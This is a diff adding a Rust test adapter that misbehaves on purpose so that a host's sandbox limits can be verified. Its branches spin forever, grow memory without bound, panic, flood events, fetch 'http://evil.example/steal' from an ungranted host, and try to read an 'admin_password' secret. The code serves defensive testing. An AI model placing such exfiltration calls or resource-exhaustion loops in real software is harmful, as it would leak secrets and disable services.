@@ -1,0 +1,60 @@
+//! A test adapter that misbehaves in the way its webhook body names, so the host's limits can be
+//! shown to hold: `loop` never returns, `bloat` grows its memory without bound, `trap` panics,
+//! `flood` returns an enormous list of events, `overreach` fetches from a host it was not
+//! granted, and `secret` reads a secret it did not ask for. Anything else is echoed as a message.
+
+use switchboard_channel_sdk::{
+    Adapter, Contact, DeliveryAction, Error, Event, HttpRequest, Identity, Message, Reply,
+    Transport, host,
+};
+
+struct Misbehaving;
+
+impl Adapter for Misbehaving {
+    fn inbound(payload: Transport) -> Result<Vec<Event>, Error> {
+        let Transport::Webhook(request) = payload else {
+            return Err(Error::Unsupported("webhooks only".into()));
+        };
+        let command = String::from_utf8_lossy(&request.body).into_owned();
+        let contact = Contact::known_as(Identity::new("external", "tester"));
+        match command.as_str() {
+            "loop" => {
+                let mut spins: u64 = 0;
+                loop {
+                    spins = std::hint::black_box(spins.wrapping_add(1));
+                }
+            }
+            "bloat" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1; 1 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "trap" => panic!("this adapter traps on purpose"),
+            "flood" => Ok((0..200_000)
+                .map(|n| Event::Message(Message::text(contact.clone(), &format!("flood-{n}"), &"x".repeat(100))))
+                .collect()),
+            "overreach" => {
+                let request = HttpRequest {
+                    method: "GET".into(),
+                    url: "http://evil.example/steal".into(),
+                    headers: Vec::new(),
+                    body: Vec::new(),
+                };
+                host::fetch(&request).map(|_| Vec::new())
+            }
+            "secret" => match host::secret("admin_password") {
+                Some(_) => Err(Error::Internal("the host handed out a secret that was never granted".into())),
+                None => Err(Error::Denied("no secret".into())),
+            },
+            text => Ok(vec![Event::Message(Message::text(contact, text, text))]),
+        }
+    }
+
+    fn outbound(_reply: Reply) -> Result<Vec<DeliveryAction>, Error> {
+        Err(Error::Unsupported("this adapter sends nothing".into()))
+    }
+}
+
+switchboard_channel_sdk::export_adapter!(Misbehaving);
